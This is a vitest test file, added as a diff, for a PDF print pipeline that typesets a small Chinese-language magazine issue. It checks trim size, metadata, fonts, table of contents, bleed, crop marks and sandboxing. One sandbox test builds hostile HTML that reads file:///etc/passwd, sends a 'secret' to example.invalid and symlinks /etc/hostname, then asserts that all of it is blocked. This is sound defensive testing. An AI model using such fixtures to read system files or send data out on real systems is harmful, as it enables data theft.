@@ -1,0 +1,342 @@
+/**
+ * The print machinery end to end on a small issue (cover, TOC, three articles, a TrueType subset
+ * font, named pages, margin boxes): printed in one browser for the whole file, then read back with
+ * poppler, qpdf and pdf.js as a printer's preflight would.
+ */
+import { createHash } from 'node:crypto';
+import { mkdtemp, readFile, symlink, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { PDFDocument, PDFName } from 'pdf-lib';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { PrintBrowser } from '../../scripts/print/browser.ts';
+import { assertPrinted, printDocuments, type PrintJob, type PrintResult, type PrintSuccess } from '../../scripts/print/index.ts';
+import { MARK, MM, pageBoxes, type FinishOptions } from '../../scripts/print/postprocess.ts';
+import { PrintError, printPdf, printPdfTimed } from '../../scripts/print/print-page.ts';
+import { UserError } from '../../scripts/report/problems.ts';
+import { ARTICLE_IDS, ARTICLE_TITLES, makeFixture, type Fixture } from './fixture.ts';
+import { greyRegion, outline, pageSizes, pageTexts, pdffonts, pdfinfo, pdfinfoBox, qpdfCheck, requireChromium, requireTools } from './poppler.ts';
+
+const TRIM = { width: 210, height: 285 };
+const TRIM_PT = { width: 595.28, height: 807.87 };
+const EDITION_DATE = new Date('2017-09-30T00:00:00Z');
+const FINISH: FinishOptions = {
+  title: '大安 2017年第9期',
+  author: '大安镇宣传办',
+  subject: '测试刊',
+  keywords: ['大安', '春耕'],
+  date: EDITION_DATE,
+  trim: TRIM,
+};
+const BLEED_STYLE = '<style>@page cover { size: 216mm 291mm; } .cover { height: 291mm; }</style>';
+
+let browser: PrintBrowser;
+let fixture: Fixture;
+let work: string;
+let issue: PrintSuccess;
+let issuePath: string;
+const timings: Record<string, number> = {};
+
+function issueJob(f: Fixture, pdfPath: string, finish: FinishOptions = FINISH, extra?: string): PrintJob {
+  return { name: 'daan-test.pdf', htmlPath: f.htmlPath, root: f.dir, pdfPath, pageIds: ARTICLE_IDS, render: (pages) => f.html(pages, extra), finish };
+}
+
+async function printOne(job: PrintJob): Promise<PrintSuccess> {
+  const [result] = await printDocuments([job], { browser });
+  assertPrinted([result]);
+  return result as PrintSuccess;
+}
+
+beforeAll(async () => {
+  requireChromium();
+  requireTools('pdfinfo', 'pdffonts', 'pdftotext', 'pdftoppm', 'qpdf');
+  work = await mkdtemp(join(tmpdir(), 'daan-print-test-'));
+  fixture = await makeFixture();
+  browser = await PrintBrowser.launch();
+  timings.launch = browser.launchTimes[0];
+  issuePath = join(work, 'issue.pdf');
+  const started = performance.now();
+  issue = await printOne(issueJob(fixture, issuePath));
+  timings.twoPassJob = performance.now() - started;
+});
+
+afterAll(async () => {
+  await browser?.close();
+  console.log(`[print timings] ${Object.entries(timings).map(([k, v]) => `${k} ${v.toFixed(0)} ms`).join(', ')}`);
+});
+
+describe('the printed issue', () => {
+  it('has every page at the trim size, 210 × 285 mm (595.28 × 807.87 pt ± 0.5)', () => {
+    const sizes = pageSizes(issuePath);
+    expect(sizes.length).toBeGreaterThan(10);
+    for (const size of sizes) {
+      expect(Math.abs(size.width - TRIM_PT.width)).toBeLessThanOrEqual(0.5);
+      expect(Math.abs(size.height - TRIM_PT.height)).toBeLessThanOrEqual(0.5);
+    }
+  });
+
+  it('is tagged and carries the metadata and dates of the edition, never the clock', async () => {
+    const info = pdfinfo(issuePath);
+    expect(info.Tagged).toBe('yes');
+    expect(info.Title).toBe(FINISH.title);
+    expect(info.Author).toBe(FINISH.author);
+    expect(info.Subject).toBe(FINISH.subject);
+    expect(info.Keywords).toBe('大安 春耕');
+    expect(info.Creator).toBe('大安刊印');
+    expect(info.CreationDate).toMatch(/Sep 30 00:00:00 2017 UTC/);
+    expect(info.ModDate).toMatch(/Sep 30 00:00:00 2017 UTC/);
+    const doc = await PDFDocument.load(issue.pdf, { updateMetadata: false });
+    expect(doc.catalog.get(PDFName.of('Lang'))?.toString()).toBe('(zh-CN)');
+    expect(doc.catalog.get(PDFName.of('StructTreeRoot'))).toBeDefined();
+  });
+
+  it('embeds every font and has no Type 3 font', () => {
+    const fonts = pdffonts(issuePath);
+    expect(fonts.length).toBeGreaterThan(0);
+    expect(fonts.filter((f) => f.type.includes('Type 3'))).toEqual([]);
+    expect(fonts.filter((f) => f.emb !== 'yes')).toEqual([]);
+  });
+
+  it('prints the page where each article starts in the table of contents', () => {
+    const pages = pageTexts(issuePath);
+    const tocIndex = pages.findIndex((text) => text.includes('目录'));
+    expect(tocIndex).toBeGreaterThanOrEqual(0);
+    const titlePages = ARTICLE_TITLES.map((title) => pages.findIndex((text, i) => i > tocIndex && text.includes(title)) + 1);
+    const tocLines = pageTexts(issuePath, true)[tocIndex].split('\n');
+    const tocNumbers = ARTICLE_TITLES.map((title) => Number(/(\d+)\s*$/.exec(tocLines.find((l) => l.includes(title)) ?? '')?.[1]));
+    expect(tocNumbers).toEqual(titlePages);
+    expect(titlePages).toEqual(ARTICLE_IDS.map((id) => issue.pages!.get(id)));
+    expect(new Set(titlePages).size).toBe(3);
+    expect(titlePages[1] - titlePages[0]).toBeGreaterThan(1); // the first article runs over several pages
+  });
+
+  it('prints twice (the numbers moved nothing) and reports the page of each id', () => {
+    expect(issue.prints).toHaveLength(2);
+    expect([...issue.pages!.keys()]).toEqual(ARTICLE_IDS);
+  });
+
+  it('has an outline of the articles and their headings, every entry resolving to its page', async () => {
+    const entries = await outline(issue.pdf);
+    const numPages = pageSizes(issuePath).length;
+    expect(entries.length).toBeGreaterThanOrEqual(ARTICLE_TITLES.length * 2);
+    for (const entry of entries) {
+      expect(entry.page, `outline entry “${entry.title}” resolves`).toBeGreaterThanOrEqual(1);
+      expect(entry.page!).toBeLessThanOrEqual(numPages);
+    }
+    ARTICLE_TITLES.forEach((title, i) => {
+      const entry = entries.find((e) => e.title === title);
+      expect(entry?.page, title).toBe(issue.pages!.get(ARTICLE_IDS[i]));
+    });
+    expect(entries.map((e) => e.title)).toEqual(expect.arrayContaining(['一、田间', '二、水利', '一、粮食', '一、仓储', '二、来年']));
+  });
+
+  it('passes qpdf --check', () => {
+    const check = qpdfCheck(issuePath);
+    expect(check.output).toMatch(/No syntax or stream encoding errors found/);
+    expect(check.status).toBe(0);
+  });
+
+  it('is byte-identical when the same input is built again', async () => {
+    const again = await makeFixture();
+    const started = performance.now();
+    const second = await printOne(issueJob(again, join(work, 'again.pdf')));
+    timings.twoPassJobWarm = performance.now() - started;
+    const sha = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
+    expect(sha(second.pdf)).toBe(sha(issue.pdf));
+    expect(sha(await readFile(join(work, 'again.pdf')))).toBe(sha(issue.pdf));
+  });
+
+  it('costs one extra print for the page numbers (measured)', async () => {
+    const single = await printPdfTimed(browser, { htmlPath: fixture.htmlPath, root: fixture.dir, timeoutMs: 30_000, name: 'single' });
+    timings.load = single.timings.load;
+    timings.fonts = single.timings.fonts;
+    timings.pagePdf = single.timings.pdf;
+    timings.onePrint = single.timings.load + single.timings.fonts + single.timings.pdf;
+    expect(single.pdf.length).toBeGreaterThan(1000);
+  });
+});
+
+describe('press option: --bleed 3mm --marks', () => {
+  let marked: PrintSuccess;
+  let bleedOnly: PrintSuccess;
+  const markedPath = () => join(work, 'marked.pdf');
+  const tw = TRIM.width * MM;
+  const th = TRIM.height * MM;
+  const bleed = 3 * MM;
+  const slug = (3 + MARK.lengthMm + MARK.paddingMm) * MM;
+
+  beforeAll(async () => {
+    const f = await makeFixture(BLEED_STYLE);
+    [marked, bleedOnly] = (await printDocuments(
+      [
+        { ...issueJob(f, markedPath(), { ...FINISH, bleedMm: 3, marks: true }, BLEED_STYLE), name: 'marked.pdf' },
+        { ...issueJob(f, join(work, 'bleed.pdf'), { ...FINISH, bleedMm: 3 }, BLEED_STYLE), name: 'bleed.pdf', htmlPath: join(f.dir, 'bleed.html') },
+      ],
+      { browser },
+    )) as PrintSuccess[];
+    assertPrinted([marked, bleedOnly]);
+  });
+
+  const size = (box: number[]) => ({ width: box[2] - box[0], height: box[3] - box[1] });
+  const close = (a: number, b: number, within = 0.01) => expect(Math.abs(a - b)).toBeLessThanOrEqual(within);
+
+  it('sets TrimBox to the trim and BleedBox 3 mm outside it on every page, on an enlarged MediaBox', async () => {
+    const doc = await PDFDocument.load(marked.pdf, { updateMetadata: false });
+    for (const page of doc.getPages()) {
+      const boxes = pageBoxes(page);
+      const [trim, bleedBox, media] = [boxes.TrimBox!, boxes.BleedBox!, boxes.MediaBox!];
+      close(size(trim).width, tw);
+      close(size(trim).height, th);
+      bleedBox.forEach((v, i) => close(v, trim[i] + (i < 2 ? -bleed : bleed)));
+      media.forEach((v, i) => close(v, trim[i] + (i < 2 ? -slug : slug)));
+    }
+  });
+
+  it('reads the same boxes back with poppler (pdfinfo -box)', () => {
+    for (const page of [1, 2]) {
+      const trim = pdfinfoBox(markedPath(), page, 'TrimBox');
+      const bleedBox = pdfinfoBox(markedPath(), page, 'BleedBox');
+      close(size(trim).width, tw, 0.02);
+      close(size(trim).height, th, 0.02);
+      close(size(bleedBox).width, tw + 2 * bleed, 0.02);
+      close(size(pdfinfoBox(markedPath(), page, 'MediaBox')).width, tw + 2 * slug, 0.02);
+    }
+  });
+
+  it('lets the cover’s colour run into the bleed, which the CSS printed at trim + 2 × bleed', async () => {
+    const doc = await PDFDocument.load(marked.pdf, { updateMetadata: false });
+    const cover = pageBoxes(doc.getPage(0)).BleedBox!;
+    // The cover was printed at 216 × 291 mm: its BleedBox is the painted page (Chromium rounds by < 0.5 pt).
+    close(cover[0], 0, 0.5);
+    close(cover[1], 0, 0.5);
+    // Inside the bleed of the cover is red; the bleed of an inside page is white.
+    const dpi = 72;
+    const [media] = [pageBoxes(doc.getPage(0)).MediaBox!];
+    const px = (x: number) => Math.round(x - media[0]);
+    const py = (y: number) => Math.round(media[3] - y);
+    const coverBleed = greyRegion(markedPath(), 1, dpi, px(cover[0] + 2), py(cover[3] - 2), 3, 3);
+    expect(Math.max(...coverBleed)).toBeLessThan(200);
+  });
+
+  it('draws crop marks outside the bleed, and nothing else there', () => {
+    const dpi = 288;
+    const s = dpi / 72;
+    const media = pdfinfoBox(markedPath(), 2, 'MediaBox');
+    const trim = pdfinfoBox(markedPath(), 2, 'TrimBox');
+    const offset = 3 * MM;
+    const length = MARK.lengthMm * MM;
+    // The horizontal mark at the top-left corner: from (left − offset − length) to (left − offset), at y = top.
+    const x = Math.round((trim[0] - offset - length - media[0]) * s);
+    const y = Math.round((media[3] - trim[3]) * s) - 4;
+    const mark = greyRegion(markedPath(), 2, dpi, x + 4, y, Math.round(length * s) - 8, 9);
+    expect(Math.min(...mark)).toBeLessThan(128);
+    // Between the bleed and the mark's start, on the same line: white.
+    const gap = greyRegion(markedPath(), 2, dpi, Math.round((trim[0] - bleed - media[0]) * s) + 2, y, Math.round((bleed - 1 * MM) * s) - 4, 9);
+    expect(Math.min(...gap)).toBe(255);
+  });
+
+  it('without --marks, the MediaBox is the BleedBox', async () => {
+    const doc = await PDFDocument.load(bleedOnly.pdf, { updateMetadata: false });
+    for (const page of doc.getPages()) {
+      const boxes = pageBoxes(page);
+      boxes.MediaBox!.forEach((v, i) => close(v, boxes.BleedBox![i]));
+    }
+  });
+
+  it('stays valid: qpdf --check clean, tagged, fonts embedded', () => {
+    for (const path of [markedPath(), join(work, 'bleed.pdf')]) {
+      expect(qpdfCheck(path).status).toBe(0);
+      expect(pdfinfo(path).Tagged).toBe('yes');
+      expect(pdffonts(path).every((f) => f.emb === 'yes' && !f.type.includes('Type 3'))).toBe(true);
+    }
+  });
+});
+
+describe('the printing browser', () => {
+  async function page(name: string, html: string): Promise<string> {
+    const path = join(fixture.dir, name);
+    await writeFile(path, html);
+    return path;
+  }
+
+  it('blocks and reports every request outside the build folder (file:///etc, http, symlinks out)', async () => {
+    await symlink('/etc/hostname', join(fixture.dir, 'outside.txt')).catch(() => undefined);
+    const htmlPath = await page(
+      'blocked.html',
+      `<!doctype html><html><head><link rel="stylesheet" href="file:///etc/passwd">
+       <style>body { background: url(http://example.invalid/leak?data=secret) }</style></head>
+       <body><p>x</p><img src="https://example.invalid/x.png"><iframe src="outside.txt"></iframe>
+       <img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"></body></html>`,
+    );
+    const error = await printPdf(browser, { htmlPath, root: fixture.dir, timeoutMs: 30_000, name: 'blocked.pdf' }).catch((e) => e);
+    expect(error).toBeInstanceOf(PrintError);
+    expect(error).toBeInstanceOf(UserError);
+    expect(error.kind).toBe('blocked');
+    expect(error.message).toMatch(/^blocked\.pdf: blocked requests outside the build folder/);
+    expect(error.message).toContain('file:///etc/passwd');
+    expect(error.message).toContain('http://example.invalid/leak?data=secret');
+    expect(error.message).toContain('https://example.invalid/x.png');
+    expect(error.message).toContain('outside.txt');
+    expect(error.message).not.toContain('data:');
+  });
+
+  it('reports a file of the build that is missing', async () => {
+    const htmlPath = await page('missing.html', '<!doctype html><p>x</p><img src="images/nope.png">');
+    const error = await printPdf(browser, { htmlPath, root: fixture.dir, timeoutMs: 30_000, name: 'missing.pdf' }).catch((e) => e);
+    expect(error).toBeInstanceOf(PrintError);
+    expect(error.kind).toBe('missing');
+    expect(error.message).toMatch(/^missing\.pdf: could not load: .*images\/nope\.png/);
+  });
+
+  it('runs no scripts of the document unless asked to', async () => {
+    const htmlPath = await page('script.html', '<!doctype html><body><p>static</p><script>document.body.append("JS-RAN")</script></body>');
+    const off = await printPdf(browser, { htmlPath, root: fixture.dir, timeoutMs: 30_000, name: 'script.pdf' });
+    const on = await printPdf(browser, { htmlPath, root: fixture.dir, timeoutMs: 30_000, name: 'script.pdf', javascript: true });
+    await writeFile(join(work, 'off.pdf'), off);
+    await writeFile(join(work, 'on.pdf'), on);
+    expect(pageTexts(join(work, 'off.pdf')).join('')).not.toContain('JS-RAN');
+    expect(pageTexts(join(work, 'on.pdf')).join('')).toContain('JS-RAN');
+  });
+
+  it('cuts a print off after the timeout with a clear message, retrying once in a fresh browser', async () => {
+    const started = performance.now();
+    const error = await printPdf(browser, { htmlPath: fixture.htmlPath, root: fixture.dir, timeoutMs: 1, name: 'slow.pdf' }).catch((e) => e);
+    timings.timeoutWithRetry = performance.now() - started;
+    expect(error).toBeInstanceOf(PrintError);
+    expect(error.kind).toBe('timeout');
+    expect(error.message).toMatch(/^slow\.pdf: printing did not finish within 1 ms \(tried 2 times, the last in a fresh browser\)\. .*longer print timeout/);
+    // The shared browser is still good for the next document.
+    const pdf = await printPdf(browser, { htmlPath: fixture.htmlPath, root: fixture.dir, timeoutMs: 30_000, name: 'after.pdf' });
+    expect(pdf.length).toBeGreaterThan(1000);
+  });
+
+  it('prints documents concurrently; one that fails is reported by name and the others finish', async () => {
+    const blocked = await page('leak.html', '<!doctype html><p>x</p><img src="http://example.invalid/a.png">');
+    const other = await makeFixture();
+    const jobs: PrintJob[] = [
+      issueJob(fixture, join(work, 'c1.pdf')),
+      { name: 'leak.pdf', htmlPath: blocked, root: fixture.dir },
+      { ...issueJob(other, join(work, 'c3.pdf')), name: 'other.pdf' },
+    ];
+    const ended: string[] = [];
+    const started = performance.now();
+    const results: PrintResult[] = await printDocuments(jobs, { browser, concurrency: 2, onResult: (r) => ended.push(r.name) });
+    timings.threeJobsConcurrently = performance.now() - started;
+    expect(results.map((r) => [r.name, r.ok])).toEqual([
+      ['daan-test.pdf', true],
+      ['leak.pdf', false],
+      ['other.pdf', true],
+    ]);
+    expect(ended.sort()).toEqual(['daan-test.pdf', 'leak.pdf', 'other.pdf']);
+    const failure = results[1];
+    expect(!failure.ok && failure.error.message).toMatch(/^leak\.pdf: blocked requests .*http:\/\/example\.invalid\/a\.png/);
+    expect(() => assertPrinted(results)).toThrow(/1 of 3 PDFs could not be printed:\n {2}leak\.pdf: blocked/);
+    expect(qpdfCheck(join(work, 'c3.pdf')).status).toBe(0);
+  });
+
+  it('fails clearly when a page has a size other than the trim', async () => {
+    const htmlPath = await page('letter.html', '<!doctype html><style>@page { size: 8.5in 11in }</style><p>x</p>');
+    const [result] = await printDocuments([{ name: 'letter.pdf', htmlPath, root: fixture.dir, finish: { ...FINISH, checkFonts: false } }], { browser });
+    expect(!result.ok && result.error.message).toMatch(/^letter\.pdf: page 1 is 215\.9 × 279\.4 mm, expected 210 × 285 mm/);
+  });
+});
